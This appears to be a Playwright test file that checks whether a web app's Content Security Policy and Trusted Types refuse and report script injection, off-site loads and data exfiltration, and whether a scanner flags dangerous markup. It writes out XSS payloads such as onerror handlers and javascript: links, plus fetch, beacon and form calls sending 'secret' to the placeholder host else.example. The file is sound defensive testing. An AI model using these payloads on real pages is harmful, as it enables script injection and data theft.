// That the page's policy refuses what it should, that it is noticed, and that the search for dangers finds some.
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { test } from '@playwright/test'
import { contentType } from '../../sync-server/src/headers.ts'
import { builtApp } from '../app.ts'
import { dangers, listenForHits } from '../hostile-words.ts'
import { Person } from '../people.ts'
import { expect } from '../people/acting.ts'
import { startRelay } from '../relay.ts'

/** What an attacker would try who could put something into the page, and what refuses it. Each runs there, by itself, and may throw. */
const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
  'a script in the page | trusted-types-for': () =>
    document.body.append(Object.assign(document.createElement('script'), { text: 'hit()' })),
  'markup from a text | trusted-types-for': () => (document.body.innerHTML += '<img src=x onerror=hit()>'),
  'markup in a document of its own | trusted-types-for': () => new DOMParser().parseFromString('<p>', 'text/html'),
  'code from a text | trusted-types-for': () => Function('hit()')(),
  'a script from elsewhere | trusted-types-for': () => {
    document.head.append(Object.assign(document.createElement('script'), { src: 'https://else.example/x.js' }))
  },
  'a script from here that is not of the app | trusted-types-for': () => {
    document.head.append(Object.assign(document.createElement('script'), { src: '/walk/x.js' }))
  },
  'a worker from a text | trusted-types-for': () => new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))),
  'another service worker | trusted-types-for': () => navigator.serviceWorker.register('/robots.txt'),
  'a handler in an attribute | script-src-attr|trusted-types-for': () => document.body.setAttribute('onclick', 'hit()'),
  'an address that runs | script-src-elem|trusted-types-for': () => {
    const link = Object.assign(document.createElement('a'), { href: 'javascript:hit()' })
    document.body.append(link)
    link.click()
  },
  'a policy that lets everything through | trusted-types refused': () =>
    (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', {}),
  'a style sheet in the page | style-src-elem': () =>
    document.head.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' })),
  'a style in an attribute | style-src-attr': () => document.body.setAttribute('style', 'color: red'),
  'a style sheet from elsewhere | style-src-elem': () =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://else.example/x.css' })),
  'a picture from elsewhere | img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://else.example/?secret' })),
  'a letter to elsewhere | connect-src': () => fetch('https://else.example/', { method: 'POST', body: 'secret' }),
  'a beacon to elsewhere | connect-src': () => navigator.sendBeacon('https://else.example/', 'secret'),
  'a socket without https | connect-src': () => new WebSocket('ws://else.example/'),
  'a page inside the page | frame-src': () =>
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://else.example/' })),
  'a form to elsewhere | form-action': () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://else.example/', method: 'post' })
    document.body.append(form)
    form.submit()
  },
  'another place that addresses count from | base-uri': () =>
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://else.example/' })),
}

/** A host that knows nothing of headers: what the page says itself is all there is. */
async function bareHost(app: string): Promise<{ origin: string; close(): void }> {
  const server = createServer((request, response) => {
    const path = request.url === '/' ? '/index.html' : request.url!
    try {
      response.setHeader('Content-Type', contentType(path))
      response.end(readFileSync(join(app, path)))
    } catch {
      response.writeHead(404).end()
    }
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    origin: `http://127.0.0.1:${port}`,
    close: () => {
      server.close()
      server.closeAllConnections()
    },
  }
}

async function tryAll(origin: string): Promise<string[]> {
  const alex = await Person.arrive('Alex', { origin })
  const { errors } = alex.phone
  try {
    await listenForHits(alex.phone.context, errors)
    // Under their own power: what a debugger evaluates may make code from texts.
    const all = Object.entries(ATTEMPTS).map(([what, attempt]) => `${JSON.stringify(what)}: ${String(attempt)}`)
    await alex.phone.context.addInitScript(`window.attempts = {${all.join(',')}}`)
    const unnoticed: string[] = []
    for (const what of Object.keys(ATTEMPTS)) {
      await alex.go('/')
      await expect(alex.page.getByRole('heading', { level: 1 })).toBeVisible()
      errors.length = 0
      await alex.page.evaluate(it => {
        setTimeout((window as unknown as { attempts: typeof ATTEMPTS }).attempts[it]!, 0)
      }, what)
      const refused = new RegExp(`^policy: \\S*(?:${what.split(' | ')[1]})`)
      const isNoticed = () => errors.some(line => refused.test(line))
      await expect
        .poll(isNoticed, { timeout: 5_000 })
        .toBe(true)
        .catch(() => unnoticed.push(what, ...errors))
      expect(errors.filter(line => line.startsWith('something ran'))).toEqual([])
    }
    return unnoticed
  } finally {
    await alex.leave()
  }
}

test('[P8.6] whatever would run or load something else is refused, and noticed: by the headers and the page', async () => {
  const relay = await startRelay({ app: await builtApp() })
  try {
    expect(await tryAll(relay.origin)).toEqual([])
  } finally {
    await relay.dispose()
  }
})

test('[P8.6] the same on a host that sends no headers', async () => {
  const host = await bareHost(await builtApp())
  try {
    expect(await tryAll(host.origin)).toEqual([])
  } finally {
    host.close()
  }
})

test('[P8.6] nobody shows the app inside another page; and what is dangerous on a screen is found', async () => {
  const relay = await startRelay({ app: await builtApp() })
  const alex = await Person.arrive('Alex', { origin: relay.origin })
  try {
    const { page } = alex
    const body = '<img src=x onerror=1><a href=" javascript:1">x</a><iframe></iframe><form action="https://else.example/"></form>'
    await page.route('**/bad', route => route.fulfill({ contentType: 'text/html', body }))
    await alex.go('/bad')
    expect(await dangers(page)).toEqual(['<img>', 'img onerror', 'a href= javascript:1', '<iframe>', 'form action=https://else.example/'])
    await page.goto('about:blank')
    await page.setContent(`<iframe src="${relay.origin}/"></iframe>`)
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
    await alex.go('/')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    expect(await dangers(page)).toEqual([])
  } finally {
    await alex.leave()
    await relay.dispose()
  }
})
